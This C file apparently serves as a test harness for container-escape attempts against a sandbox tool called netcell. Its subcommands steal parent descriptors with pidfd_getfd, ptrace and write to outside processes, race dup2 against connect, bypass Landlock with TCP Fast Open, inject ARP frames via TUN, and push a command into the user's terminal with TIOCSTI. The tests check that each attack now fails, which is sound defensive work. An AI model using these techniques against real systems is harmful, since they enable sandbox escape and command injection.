/* Attacks a hostile container program makes on netcell's boundary (the findings of
 * the security review), one subcommand each. Built twice by the tests, dynamic and
 * static; run inside a seccomp container as an unprivileged user. Each prints what
 * it got, one "key value" line per fact, so the test can assert that nothing got
 * out. On today's code each attack must fail; on the code the review found, each
 * succeeded.
 *
 *   grab-parent MS          take descriptors of netcell (the parent) for MS ms
 *   watch MS                take descriptors of any other netcell appearing in MS ms
 *   outside NAME=PID ...    ptrace, pidfd_getfd, process_vm_writev, /proc/PID/mem, kill
 *   dup2-race PORT N        race connect(100, ...) against dup2(host socket, 100)
 *   listen-race N           race connect(100, AF_UNSPEC) and listen(100) against
 *                           dup2(host socket, 100); is the host socket listening?
 *   nondumpable PORT        PR_SET_DUMPABLE 0, then use the host socket on fd 0
 *   exhaust PORT            open sockets until netcell has no descriptors, then the same
 *   tun DEV IFNAME          attach to TAP IFNAME through DEV (/dev/net/tun) and write
 *   rawns                   a raw socket after unshare(CLONE_NEWUSER)
 *   scm PATH                receive descriptors over the unix socket at PATH
 *   resolv                  open resolv.conf by other spellings; print the first line
 *   tiocsti                 push a command into the terminal on stdin (the user's shell)
 *   churn SECS MARK         keep forking (a new pid all the time) to outlive netcell
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/if.h>
#include <linux/if_tun.h>
#include <netinet/in.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static const char *en(long r) {
    static char buf[32];
    if (r >= 0)
        return "ok";
    switch (errno) {
    case EPERM: return "EPERM";
    case EACCES: return "EACCES";
    case EBADF: return "EBADF";
    case EINVAL: return "EINVAL";
    case EISCONN: return "EISCONN";
    case ECONNREFUSED: return "ECONNREFUSED";
    case ENOSYS: return "ENOSYS";
    case ESRCH: return "ESRCH";
    case EFAULT: return "EFAULT";
    case EMFILE: return "EMFILE";
    case ENFILE: return "ENFILE";
    case EAFNOSUPPORT: return "EAFNOSUPPORT";
    case EOPNOTSUPP: return "EOPNOTSUPP";
    case ENOBUFS: return "ENOBUFS";
    case ENOENT: return "ENOENT";
    case EAGAIN: return "EAGAIN";
    case EIO: return "EIO";
    default: snprintf(buf, sizeof buf, "errno%d", errno); return buf;
    }
}

static double now_ms(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec * 1e3 + t.tv_nsec / 1e6;
}

static int pidfd_open(int pid) { return syscall(SYS_pidfd_open, pid, 0); }
static int pidfd_getfd(int pidfd, int fd) { return syscall(SYS_pidfd_getfd, pidfd, fd, 0); }

/* Takes every descriptor of `pid` it can; returns how many. */
static int grab(int pid, int verbose) {
    int pfd = pidfd_open(pid), n = 0;
    if (pfd < 0)
        return 0;
    for (int fd = 0; fd < 256; fd++) {
        int c = pidfd_getfd(pfd, fd);
        if (c < 0)
            continue;
        n++;
        if (verbose) {
            char p[64], t[256] = "";
            snprintf(p, sizeof p, "/proc/self/fd/%d", c);
            ssize_t l = readlink(p, t, sizeof t - 1);
            t[l > 0 ? l : 0] = 0;
            printf("took %d:%d %s\n", pid, fd, t);
        }
        close(c);
    }
    close(pfd);
    return n;
}

static int grab_parent(int ms) {
    int total = 0;
    double end = now_ms() + ms;
    while (now_ms() < end)
        total += grab(getppid(), total < 8);
    printf("grabbed %d\n", total);
    return 0;
}

static int my_ancestor(int pid) {
    for (int p = getpid(); p > 1;) {
        if (p == pid)
            return 1;
        char path[64], buf[512];
        snprintf(path, sizeof path, "/proc/%d/stat", p);
        FILE *f = fopen(path, "r");
        if (!f)
            return 0;
        size_t n = fread(buf, 1, sizeof buf - 1, f);
        fclose(f);
        buf[n] = 0;
        char *r = strrchr(buf, ')');
        if (!r || sscanf(r + 2, "%*c %d", &p) != 1)
            return 0;
    }
    return 0;
}

static int watch(int ms) {
    int total = 0, seen = 0;
    double end = now_ms() + ms;
    while (now_ms() < end) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid <= 1)
                continue;
            char path[64], comm[32] = "";
            snprintf(path, sizeof path, "/proc/%d/comm", pid);
            int f = open(path, O_RDONLY);
            if (f < 0)
                continue;
            ssize_t n = read(f, comm, sizeof comm - 1);
            close(f);
            comm[n > 0 ? n : 0] = 0;
            if (strncmp(comm, "netcell", 7) != 0 || my_ancestor(pid))
                continue;
            seen++;
            total += grab(pid, total < 8);
        }
        if (d)
            closedir(d);
    }
    printf("netcells seen %d\ngrabbed %d\n", seen, total);
    return 0;
}

static int outside(int argc, char **argv) {
    for (int i = 0; i < argc; i++) {
        char *eq = strchr(argv[i], '=');
        if (!eq)
            continue;
        *eq = 0;
        const char *name = argv[i];
        int pid = atoi(eq + 1);
        long r = ptrace(PTRACE_ATTACH, pid, 0, 0);
        printf("%s ptrace %s\n", name, en(r));
        if (r == 0) {
            waitpid(pid, NULL, __WALL);
            ptrace(PTRACE_DETACH, pid, 0, 0);
        }
        int pfd = pidfd_open(pid);
        r = pfd < 0 ? pfd : pidfd_getfd(pfd, 2);
        printf("%s pidfd_getfd %s\n", name, en(r));
        if (r >= 0)
            close(r);
        if (pfd >= 0)
            close(pfd);
        /* Address 8 is never mapped: EFAULT means the access check passed. */
        char b = 0;
        struct iovec l = {&b, 1}, rm = {(void *)8, 1};
        r = process_vm_writev(pid, &l, 1, &rm, 1, 0);
        printf("%s process_vm_writev %s\n", name, r < 0 && errno == EFAULT ? "allowed" : en(r));
        char path[64];
        snprintf(path, sizeof path, "/proc/%d/mem", pid);
        r = open(path, O_RDWR);
        printf("%s mem %s\n", name, en(r));
        if (r >= 0)
            close(r);
        r = kill(pid, 0);
        printf("%s kill %s\n", name, en(r));
    }
    return 0;
}

static struct sockaddr_in host_addr(int port) {
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(port)};
    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    return a;
}

static volatile int stop_flipping;
static int flip_unix;

static void *flipper(void *arg) {
    (void)arg;
    while (!stop_flipping) {
        dup2(0, 100);
        dup2(flip_unix, 100);
    }
    return NULL;
}

static int dup2_race(int port, int n) {
    struct sockaddr_in a = host_addr(port);
    struct sockaddr unspec = {.sa_family = AF_UNSPEC};
    flip_unix = socket(AF_UNIX, SOCK_STREAM, 0);
    dup2(flip_unix, 100);
    pthread_t t;
    pthread_create(&t, NULL, flipper, NULL);
    int ok = 0, disconnected = 0, fastopen = 0;
    for (int i = 0; i < n; i++) {
        if (connect(100, &unspec, sizeof unspec) == 0)
            disconnected++;
        if (connect(100, (struct sockaddr *)&a, sizeof a) == 0)
            ok++;
        /* TCP Fast Open connects without the connect hook Landlock checks. */
        if (sendto(100, "x", 1, MSG_FASTOPEN | MSG_NOSIGNAL, (struct sockaddr *)&a, sizeof a) == 1)
            fastopen++;
    }
    stop_flipping = 1;
    pthread_join(t, NULL);
    printf("tries %d\ndisconnected %d\nconnected %d\nfastopen sent %d\n", n, disconnected, ok, fastopen);
    return 0;
}

/* Whether the socket on fd 0 listens, as the host's /proc/net/tcp{,6} says (the
 * container sees its network namespace's). */
static int host_socket_listens(void) {
    struct stat st;
    if (fstat(0, &st) < 0)
        return 0;
    const char *files[] = {"/proc/net/tcp", "/proc/net/tcp6"};
    for (int f = 0; f < 2; f++) {
        FILE *p = fopen(files[f], "r");
        if (!p)
            continue;
        char line[512];
        while (fgets(line, sizeof line, p)) {
            unsigned state;
            unsigned long inode;
            if (sscanf(line, "%*s %*s %*s %x %*s %*s %*s %*s %*s %lu", &state, &inode) == 2 &&
                state == 0x0A && inode == (unsigned long)st.st_ino) {
                fclose(p);
                return 1;
            }
        }
        fclose(p);
    }
    return 0;
}

static int listen_race(int n) {
    struct sockaddr unspec = {.sa_family = AF_UNSPEC};
    flip_unix = socket(AF_UNIX, SOCK_STREAM, 0);
    dup2(flip_unix, 100);
    pthread_t t;
    pthread_create(&t, NULL, flipper, NULL);
    int disconnected = 0, listened = 0, host = 0;
    for (int i = 0; i < n; i++) {
        if (connect(100, &unspec, sizeof unspec) == 0)
            disconnected++;
        if (listen(100, 1) == 0) {
            listened++;
            /* A later disconnect stops a listen: look at once. */
            host += host_socket_listens();
        }
    }
    stop_flipping = 1;
    pthread_join(t, NULL);
    printf("tries %d\ndisconnected %d\nlistened %d\nhost listening %d\n", n, disconnected, listened,
           host + host_socket_listens());
    return 0;
}

/* Uses the host socket on fd 0 (a connected TCP stream the test handed in) and the
 * interface ioctls on an AF_UNIX socket. */
static void try_escape(int port) {
    struct sockaddr unspec = {.sa_family = AF_UNSPEC};
    printf("disconnect %s\n", en(connect(0, &unspec, sizeof unspec)));
    struct sockaddr_in a = host_addr(port);
    printf("connect %s\n", en(connect(0, (struct sockaddr *)&a, sizeof a)));
    int u = socket(AF_UNIX, SOCK_DGRAM, 0);
    char buf[40 * 32];
    struct ifconf ifc = {.ifc_len = sizeof buf, .ifc_buf = buf};
    long r = ioctl(u, SIOCGIFCONF, &ifc);
    printf("ifconf %s", en(r));
    for (int i = 0; r == 0 && i < ifc.ifc_len / 40; i++)
        printf(" %s", buf + 40 * i);
    printf("\n");
}

static int nondumpable(int port) {
    printf("prctl %s\n", en(prctl(PR_SET_DUMPABLE, 0, 0, 0, 0)));
    try_escape(port);
    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in a = host_addr(port);
    printf("socket %s\n", en(s));
    printf("inet connect %s\n", en(connect(s, (struct sockaddr *)&a, sizeof a)));
    return 0;
}

/* Opens sockets until the stack cannot make more (netcell is out of descriptors),
 * then tries the host socket and the interface ioctls. */
static int exhaust(int port) {
    int last = 0, opened = 0;
    for (int i = 0; i < 4096; i++) {
        int s = socket(AF_INET, SOCK_STREAM, 0);
        if (s < 0) {
            last = errno;
            break;
        }
        opened++;
    }
    errno = last;
    printf("sockets %d then %s\n", opened, en(-1));
    try_escape(port);
    return 0;
}

static int tun(const char *dev, const char *name) {
    int fd = open(dev, O_RDWR);
    printf("open %s\n", en(fd));
    if (fd < 0)
        return 0;
    struct ifreq ifr = {.ifr_flags = IFF_TAP | IFF_NO_PI};
    strncpy(ifr.ifr_name, name, IFNAMSIZ - 1);
    long r = ioctl(fd, TUNSETIFF, &ifr);
    printf("tunsetiff %s\n", en(r));
    if (r == 0) {
        unsigned char frame[60] = {0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 2, 0, 0, 0, 0, 1, 0x08, 0x06};
        for (int i = 0; i < 10; i++)
            r = write(fd, frame, sizeof frame);
        printf("write %s\n", en(r));
    }
    return 0;
}

static int rawns(void) {
    printf("unshare %s\n", en(unshare(CLONE_NEWUSER)));
    printf("raw %s\n", en(socket(AF_INET, SOCK_RAW, IPPROTO_ICMP)));
    return 0;
}

static int scm(const char *path) {
    int s = socket(AF_UNIX, SOCK_STREAM, 0);
    struct sockaddr_un a = {.sun_family = AF_UNIX};
    strncpy(a.sun_path, path, sizeof a.sun_path - 1);
    printf("connect %s\n", en(connect(s, (struct sockaddr *)&a, sizeof a)));
    char data[16], cbuf[CMSG_SPACE(4 * sizeof(int))];
    struct iovec iov = {data, sizeof data};
    struct msghdr m = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = cbuf, .msg_controllen = sizeof cbuf};
    long r = recvmsg(s, &m, 0);
    printf("recvmsg %s %ld\n", en(r), r);
    int fds = 0;
    for (struct cmsghdr *c = CMSG_FIRSTHDR(&m); r >= 0 && c; c = CMSG_NXTHDR(&m, c)) {
        if (c->cmsg_level != SOL_SOCKET || c->cmsg_type != SCM_RIGHTS)
            continue;
        int k = (c->cmsg_len - CMSG_LEN(0)) / sizeof(int);
        for (int i = 0; i < k; i++) {
            int fd;
            memcpy(&fd, CMSG_DATA(c) + i * sizeof(int), sizeof fd);
            int dom = -1;
            socklen_t l = sizeof dom;
            getsockopt(fd, SOL_SOCKET, SO_DOMAIN, &dom, &l);
            printf("fd family %d\n", dom);
            fds++;
        }
    }
    printf("fds %d\nctrunc %d\n", fds, (m.msg_flags & MSG_CTRUNC) != 0);
    return 0;
}

static void first_line(const char *label, int fd) {
    char buf[128] = "";
    if (fd >= 0) {
        ssize_t n = read(fd, buf, sizeof buf - 1);
        buf[n > 0 ? n : 0] = 0;
        char *nl = strchr(buf, '\n');
        if (nl)
            *nl = 0;
        close(fd);
    } else {
        snprintf(buf, sizeof buf, "%s", en(fd));
    }
    printf("%s: %s\n", label, buf);
}

static int resolv(void) {
    first_line("plain", open("/etc/resolv.conf", O_RDONLY));
    first_line("double slash", open("/etc//resolv.conf", O_RDONLY));
    first_line("dot dot", open("/etc/../etc/resolv.conf", O_RDONLY));
    int d = open("/etc", O_RDONLY | O_DIRECTORY);
    first_line("openat", openat(d, "resolv.conf", O_RDONLY));
    struct {
        unsigned long long flags, mode, resolve;
    } how = {O_RDONLY, 0, 0};
    first_line("openat2", syscall(SYS_openat2, d, "resolv.conf", &how, sizeof how));
    if (fchdir(d) == 0)
        first_line("relative", open("resolv.conf", O_RDONLY));
    first_line("hosts relative", open("./hosts", O_RDONLY));
    return 0;
}

static int tiocsti(void) {
    const char *cmd = "echo INJECTED\n";
    long r = 0;
    for (const char *p = cmd; *p && r == 0; p++)
        r = ioctl(0, TIOCSTI, p);
    printf("tiocsti %s\n", en(r));
    return 0;
}

static int churn(int secs) {
    time_t end = time(0) + secs;
    signal(SIGTERM, SIG_IGN);
    if (fork() > 0)
        return 0; /* the command exits at once; the churner stays */
    while (time(0) < end) {
        pid_t p = fork();
        if (p < 0) {
            usleep(1000);
            continue;
        }
        if (p > 0)
            _exit(0);
    }
    return 0;
}

int main(int argc, char **argv) {
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (argc < 2)
        return 2;
    const char *c = argv[1];
    if (!strcmp(c, "grab-parent") && argc > 2)
        return grab_parent(atoi(argv[2]));
    if (!strcmp(c, "watch") && argc > 2)
        return watch(atoi(argv[2]));
    if (!strcmp(c, "outside"))
        return outside(argc - 2, argv + 2);
    if (!strcmp(c, "dup2-race") && argc > 3)
        return dup2_race(atoi(argv[2]), atoi(argv[3]));
    if (!strcmp(c, "listen-race") && argc > 2)
        return listen_race(atoi(argv[2]));
    if (!strcmp(c, "nondumpable") && argc > 2)
        return nondumpable(atoi(argv[2]));
    if (!strcmp(c, "exhaust") && argc > 2)
        return exhaust(atoi(argv[2]));
    if (!strcmp(c, "tun") && argc > 3)
        return tun(argv[2], argv[3]);
    if (!strcmp(c, "rawns"))
        return rawns();
    if (!strcmp(c, "scm") && argc > 2)
        return scm(argv[2]);
    if (!strcmp(c, "resolv"))
        return resolv();
    if (!strcmp(c, "tiocsti"))
        return tiocsti();
    if (!strcmp(c, "churn") && argc > 2)
        return churn(atoi(argv[2]));
    fprintf(stderr, "unknown attack %s\n", c);
    return 2;
}
